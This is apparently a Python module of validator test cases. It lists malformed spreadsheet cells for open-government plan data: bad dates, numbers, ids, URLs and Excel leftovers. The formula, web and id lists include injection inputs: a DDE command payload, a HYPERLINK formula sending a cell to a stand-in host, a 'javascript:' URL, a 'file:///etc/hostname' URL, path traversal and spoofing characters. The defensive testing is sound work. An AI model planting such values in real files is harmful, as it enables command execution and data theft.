"""Cells that are not what their column asks: dates, numbers, formulas and what spreadsheets leave in them."""

# ruff: noqa: E501  a case that fits on a line is easier to compare with its neighbours

from __future__ import annotations

from malformed.case import Case, Edit, append, bad, cell, replace, rewrite, table

DATES: dict[str, str] = {
    "slashes": "12/03/2024",
    "american": "03/25/2024",
    "day-first": "12-03-2024",
    "dots": "12.03.2024",
    "two-digit-year": "12/03/24",
    "two-digit-year-first": "24-03-12",
    "month-in-words": "12-mar-2024",
    "month-and-year-of-excel": "mar-24",
    "in-full": "12 de marzo de 2024",
    "no-zeros": "2024-3-12",
    "year-first-slashes": "2024/03/12",
    "no-dashes": "20240312",
    "excel-serial": "45363",
    "excel-serial-with-hour": "45363.7083",
    "with-midnight": "2024-03-12 00:00:00",
    "with-iso-time": "2024-03-12T00:00:00Z",
    "range": "2024-03-12/2024-03-15",
    "month-only": "2024-03",
    "year-only": "2024",
    "dot-at-the-end": "2024-03-12.",
    "full-width": "２０２４-０３-１２",
    "en-dashes": "2024–03–12",
    "minus-signs": "2024−03−12",
    "soft-hyphens": "2024\u00ad03\u00ad12",
    "arabic-digits": "٢٠٢٤-٠٣-١٢",
    "letter-o": "2024-O3-12",
    "letter-l": "2024-03-l2",
    "february-30": "2024-02-30",
    "not-a-leap-year": "2023-02-29",
    "month-13": "2024-13-01",
    "month-0": "2024-00-12",
    "day-0": "2024-03-00",
    "june-31": "2024-06-31",
    "year-204": "0204-03-12",
    "year-2204": "2204-03-12",
    "excel-zero": "1900-01-00",
    "excel-1900": "1900-01-01",
    "epoch": "1970-01-01",
    "no-date": "s/f",
    "words": "pendiente",
    "two-dates": "2024-03-12; 2024-03-13",
    "question": "2024-03-1?",
    "negative-year": "-2024-03-12",
    "hashes": "########",
}
"""What is written where `terminado` asks for a day, all of them in March of 2024 at best."""

PARTIAL: dict[str, str] = {
    "month-0": "2024-00",
    "month-13": "2024-13",
    "quarter": "2024-T1",
    "words": "enero 2024",
    "excel": "ene-24",
    "two-years": "2024-2025",
    "slash": "01/2024",
    "unknown-month": "2024-XX",
    "decade": "202X",
    "hour": "2024-01-15 10:00",
}

NUMBERS: dict[str, str] = {
    "percent": "70%",
    "percent-apart": "70 %",
    "decimal-comma": "7,5",
    "thousands-comma": "1,234",
    "thousands-and-decimals": "1,234.50",
    "thousands-dots": "1.234,50",
    "thousands-space": "1 234",
    "thousands-narrow-space": "1\u202f234",
    "money": "$ 7",
    "money-code": "7 MXN",
    "unit": "7 días",
    "words": "siete",
    "scientific": "1.2E+11",
    "scientific-infinite": "1e400",
    "nan": "NaN",
    "infinite": "inf",
    "minus-infinite": "-Infinity",
    "hexadecimal": "0x1F",
    "underscore": "1_000",
    "arabic-digits": "٧",
    "full-width": "７",
    "superscript": "7²",
    "fraction": "1/2",
    "fraction-sign": "½",
    "letter-o": "1O",
    "two-points": "7.0.1",
    "two-minus": "--7",
    "minus-after": "7-",
    "minus-sign": "−7",
    "brackets": "(7)",
    "approximate": "~7",
    "more-than": "> 7",
    "range": "5-9",
    "true": "VERDADERO",
    "true-english": "TRUE",
    "not-available": "N/A",
    "no-datum": "s/d",
    "dash": "-",
    "excel-na": "#N/A",
    "excel-ref": "#REF!",
    "excel-ref-spanish": "#¡REF!",
    "excel-division": "#¡DIV/0!",
    "excel-hashes": "####",
    "excel-date": "07-ene",
    "null": "NULL",
    "quote-first": "'7",
    "zero-width": "7\u200b",
    "hard-space-inside": "1\u00a0234",
}

FORMULAS: dict[str, str] = {
    "sum": "=SUM(A1:A9)",
    "hyperlink": '=HYPERLINK("https://x.example/?"&A1;"ver")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-A1+1",
    "minus-function": "-SUM(A1)",
    "at": "@SUM(1+1)",
    "tab-first": "\t=1+1",
    "return-first": "\r=1+1",
    "space-first": " =1+1",
    "zero-width-first": "\u200b=1+1",
    "mention": "@obras informó que ya está",
}

LEFT: dict[str, str] = {
    "excel-na": "#N/A",
    "excel-ref": "#REF!",
    "excel-ref-spanish": "#¡REF!",
    "excel-value": "#¡VALOR!",
    "excel-name": "#¿NOMBRE?",
    "excel-hashes": "##########",
    "null": "NULL",
    "undefined": "undefined",
    "object": "[object Object]",
    "nan": "nan",
    "html-entity": "Se public&oacute; la tabla.",
    "html-entity-number": "Se public&#243; la tabla.",
    "html-amp": "Obras &amp; caminos, y agua.",
    "carriage-code": "Se publicó_x000D_\nla tabla.",
    "tag": "Se publicó<br>la tabla.",
    "percent-encoded": "Se%20public%C3%B3%20la%20tabla.",
    "unicode-escape": "Se public\\u00f3 la tabla.",
}
"""What programs leave in a text: a warning with its place is enough."""

IDS: dict[str, str] = {
    "date-of-excel": "03-may",
    "month-of-excel": "may-24",
    "scientific": "1.2E+11",
    "capital": "Parque",
    "accent": "párque",
    "decomposed": "pa\u0301rque",
    "space": "par que",
    "underscore": "par_que",
    "slash": "par/que",
    "dot-dot": "../parque",
    "hyphen-last": "parque-",
    "hyphen-twice": "par--que",
    "cyrillic-a": "p\u0430rque",
    "greek-omicron": "parque-uni\u03bf",
    "full-width": "ｐａｒｑｕｅ",
    "zero-width": "par\u200bque",
    "soft-hyphen": "par\u00adque",
    "hard-space": "par\u00a0que",
    "bidi": "par\u202eque",
    "61-letters": "p" * 61,
    "tag": "<b>parque</b>",
    "formula": "=parque",
    "device-con": "con",
    "device-nul": "nul",
    "device-com1": "com1",
    "page-of-a-list": "parte-2",
}
"""What is written as the id of the second agreement, which no row refers to."""
OF_PAGES = {"date-of-excel", "month-of-excel", "device-con", "device-nul", "device-com1", "page-of-a-list"}
"""Those that have the form of a key: they are written as the id of a commitment, in every table that names it."""

UPDATES, COMMITMENTS, PARK = table("avances"), table("compromisos"), 4


def renamed(value: str) -> tuple[Edit, ...]:
    """Edits that rename the commitment `parque` in every table, so that nothing but its name is wrong."""
    written = f'"{value}"' if any(each in value for each in ' ,"') else value
    tables = [table(name) for name in ("compromisos", "actividades", "lugares")]
    manifest = "data/plan-minimo/evidencias/2024-03/datapackage.yaml"
    own = [
        rewrite(each, lambda t: t.replace("\nparque,", f"\n{written},").replace(",parque,", f",{written},"))
        for each in tables
    ]
    return (*own, rewrite(manifest, lambda t: t.replace("compromiso: parque", f'compromiso: "{value}"')))


OTHER_DATES: tuple[Case, ...] = (
    bad("date.cut-american", "date", cell("cortes", 2, "publicado", "04/03/2024"), table("cortes"), "2:publicado"),
    bad("date.cut-of-2042", "date", cell("cortes", 2, "publicado", "2042-04-03"), table("cortes"), "2:publicado"),
    bad("date.source-read-in-2042", "date", cell("fuentes", 2, "consultada", "2042-02-01"), table("fuentes"),
        "2:consultada"),
    bad("date.source-of-204", "date", cell("fuentes", 3, "fecha", "204"), table("fuentes"), "3:fecha"),
    bad("date.meeting-of-0203", "date", cell("sesiones", 2, "fecha", "0203-11-20"), table("sesiones"), "2:fecha"),
    bad("date.own-table", "date", cell("recorridos", 2, "fecha", "04/05/2024"), table("recorridos"), "2:fecha"),
    bad("date.hour-in-words", "date", cell("sesiones", 2, "hora_inicio", "10 am"), table("sesiones"), "2:hora_inicio"),
    bad("date.hour-25", "date", cell("sesiones", 2, "hora_fin", "25:30"), table("sesiones"), "2:hora_fin"),
    bad("date.hour-without-zero", "date", cell("sesiones", 2, "hora_inicio", "9:00"), table("sesiones"), "2:hora_inicio"),
    bad("date.zone-by-name", "date", cell("sesiones", 2, "zona", "America/Chihuahua"), table("sesiones"), "2:zona"),
    bad("date.cut-renamed-by-excel-everywhere", "spreadsheet", tuple(
        rewrite(table(name), lambda t: t.replace("\n2024-03,", "\nmar-24,")) for name in ("cortes", "avances", "verificaciones")
    ), table("cortes"), "2:id"),
    bad("date.cut-renamed-by-excel-in-one", "spreadsheet", cell("avances", 2, "corte", "mar-24"), UPDATES, "2:corte"),
    bad("date.reference-number-of-excel", "spreadsheet", cell("preguntas", 2, "folio", "2.40123E+11"), table("preguntas"),
        "2:folio", warns=True),
)  # fmt: skip

OTHER_NUMBERS: tuple[Case, ...] = (
    bad("number.attendance-negative", "number", cell("sesiones", 3, "mujeres", "-8"), table("sesiones"), "3:mujeres"),
    bad("number.attendance-half", "number", cell("sesiones", 3, "mujeres", "8.5"), table("sesiones"), "3:mujeres"),
    bad("number.attendance-of-40-digits", "number", cell("sesiones", 3, "asistentes", "9" * 40), table("sesiones"),
        "3:asistentes"),
    bad("number.attendance-of-5000-digits", "number", cell("sesiones", 3, "asistentes", "9" * 5000), table("sesiones"),
        "3:asistentes"),
    bad("number.number-zero", "number", cell("compromisos", 4, "numero", "0"), COMMITMENTS, "4:numero"),
    bad("number.number-twice", "number", cell("compromisos", 4, "numero", "2"), COMMITMENTS, "4:numero"),
    bad("number.number-ordinal", "number", cell("compromisos", 4, "numero", "3°"), COMMITMENTS, "4:numero"),
    bad("number.number-roman", "number", cell("compromisos", 4, "numero", "III"), COMMITMENTS, "4:numero"),
    bad("number.weight-negative", "number", cell("compromisos", 4, "peso", "-15"), COMMITMENTS, "4:peso"),
    bad("number.weight-percent", "number", cell("compromisos", 4, "peso", "15%"), COMMITMENTS, "4:peso"),
    bad("number.order-half", "number", cell("pasos", 3, "orden", "1.5"), table("pasos"), "3:orden"),
    bad("number.part-negative", "number", cell("participacion", 3, "valor", "-16"), table("participacion"), "3:valor"),
    bad("number.kilometres-negative", "number", cell("recorridos", 2, "kilometros", "-1.5"), table("recorridos"),
        "2:kilometros"),
    bad("number.latitude-95", "map", cell("lugares", 2, "latitud", "95"), table("lugares"), "2:latitud"),
    bad("number.longitude-200", "map", cell("lugares", 2, "longitud", "-200"), table("lugares"), "2:longitud"),
    bad("number.latitude-in-degrees", "map", cell("lugares", 2, "latitud", "25°00'00\"N"), table("lugares"), "2:latitud"),
    bad("number.latitude-without-point", "map", cell("lugares", 2, "latitud", "250000"), table("lugares"), "2:latitud"),
    bad("number.both-in-one-cell", "map", cell("lugares", 2, "latitud", "25.0, -125.0"), table("lugares"), "2:latitud"),
    bad("number.coordinates-in-metres", "map", (cell("lugares", 2, "latitud", "3169312.8"), cell("lugares", 2, "longitud",
        "389412.5")), table("lugares"), "2:latitud"),
)  # fmt: skip

WORDS: tuple[Case, ...] = (
    bad("word.status-true", "word", cell("avances", 2, "estado", "VERDADERO"), UPDATES, "2:estado"),
    bad("word.status-in-capitals", "word", cell("avances", 2, "estado", "Completo"), UPDATES, "2:estado"),
    bad("word.status-misspelt", "word", cell("avances", 2, "estado", "completa"), UPDATES, "2:estado"),
    bad("word.status-number", "word", cell("avances", 2, "estado", "1"), UPDATES, "2:estado"),
    bad("word.sector", "word", cell("instituciones", 2, "sector", "público"), table("instituciones"), "2:sector"),
    bad("word.kind-of-meeting", "word", cell("sesiones", 2, "tipo", "reunion"), table("sesiones"), "2:tipo"),
    bad("word.value-of-ogp", "word", cell("compromisos", 4, "valores_ogp", "participacion"), COMMITMENTS, "4:valores_ogp"),
    bad("word.values-with-commas", "word", cell("compromisos", 4, "valores_ogp", "acceso_informacion,rendicion_cuentas"),
        COMMITMENTS, "4:valores_ogp"),
    bad("word.none-and-another", "word", cell("compromisos", 4, "valores_ogp", "ninguno;rendicion_cuentas"), COMMITMENTS,
        "4:valores_ogp"),
    bad("word.address-without-scheme", "web", cell("fuentes", 2, "direccion", "www.example.org/plan"), table("fuentes"),
        "2:direccion"),
    bad("word.address-script", "web", cell("fuentes", 2, "direccion", "javascript:alert(1)"), table("fuentes"), "2:direccion"),
    bad("word.address-file", "web", cell("instituciones", 2, "url", "file:///etc/hostname"), table("instituciones"), "2:url"),
    bad("word.address-with-a-user", "web", cell("fuentes", 2, "direccion", "https://ana:secreto@example.org/"),
        table("fuentes"), "2:direccion"),
    bad("word.address-that-deceives", "web", cell("instituciones", 2, "url", "https://municipio.gob.mx@x.example/"),
        table("instituciones"), "2:url"),
    bad("word.address-with-a-space", "web", cell("fuentes", 2, "direccion", "https://example.org/el plan"),
        table("fuentes"), "2:direccion"),
    bad("word.two-addresses", "web", cell("fuentes", 2, "direccion", "https://a.example/;https://b.example/"),
        table("fuentes"), "2:direccion"),
    bad("word.address-port-99999", "web", cell("fuentes", 2, "direccion", "https://example.org:99999/"), table("fuentes"),
        "2:direccion"),
    bad("word.address-without-host", "web", cell("fuentes", 2, "direccion", "https:///plan"), table("fuentes"), "2:direccion"),
    bad("word.address-line-end", "web", cell("fuentes", 2, "direccion", "https://example.org/plan\nhttps://x.example/"),
        table("fuentes"), "2:direccion"),
    bad("word.address-backslash", "web", cell("fuentes", 2, "direccion", "https:\\\\example.org\\plan"), table("fuentes"),
        "2:direccion"),
    bad("word.mail-without-at", "web", cell("instituciones", 2, "contacto", "obras.example.org"), table("instituciones"),
        "2:contacto"),
    bad("word.mail-twice", "web", cell("instituciones", 2, "contacto", "a@example.org b@example.org"),
        table("instituciones"), "2:contacto"),
    bad("formula.status-of-the-scale", "formula", replace("data/plan-minimo/datapackage.yaml", "titulo: Entrega a OGP",
        'titulo: "=1+1"'), "data/plan-minimo/datapackage.yaml"),
    bad("formula.title-of-a-document", "formula", replace("data/plan-minimo/evidencias/2024-03/datapackage.yaml",
        "title: Acta de la sesión 2", "title: '=1+1'"), "data/plan-minimo/evidencias/2024-03/datapackage.yaml"),
    bad("formula.name-of-a-body", "formula", replace("data/plan-minimo/datapackage.yaml", "nombre: Grupo Impulsor",
        'nombre: "@SUM(1)"'), "data/plan-minimo/datapackage.yaml"),
    bad("formula.gap-of-the-plan", "formula", append("data/plan-minimo/datapackage.yaml",
        "estados:\n  - {id: hecho, titulo: '=1+1', valor: 1, irm: completo}\n"), "data/plan-minimo/datapackage.yaml"),
)  # fmt: skip

CASES: tuple[Case, ...] = (
    *(bad(f"date.{name}", "date", cell("avances", 2, "terminado", value), UPDATES, "2:terminado")
      for name, value in DATES.items()),
    *(bad(f"partial.{name}", "date", cell("compromisos", PARK, "inicio", value), COMMITMENTS, f"{PARK}:inicio")
      for name, value in PARTIAL.items()),
    *(bad(f"number.{name}", "number", cell("avances", 3, "valor", value), UPDATES, "3:valor")
      for name, value in NUMBERS.items()),
    *(bad(f"formula.{name}", "formula", cell("avances", 3, "siguiente_paso", value), UPDATES, "3:siguiente_paso")
      for name, value in FORMULAS.items()),
    *(bad(f"left.{name}", "spreadsheet", cell("avances", 2, "descripcion", value), UPDATES, "2:descripcion", warns=True)
      for name, value in LEFT.items()),
    *(bad(f"id.{name}", "id", renamed(value), COMMITMENTS, f"{PARK}:id") for name, value in IDS.items() if name in OF_PAGES),
    *(bad(f"id.{name}", "id", cell("acuerdos", 3, "id", value), table("acuerdos"), "3:id")
      for name, value in IDS.items() if name not in OF_PAGES),
    *OTHER_DATES, *OTHER_NUMBERS, *WORDS,
)  # fmt: skip
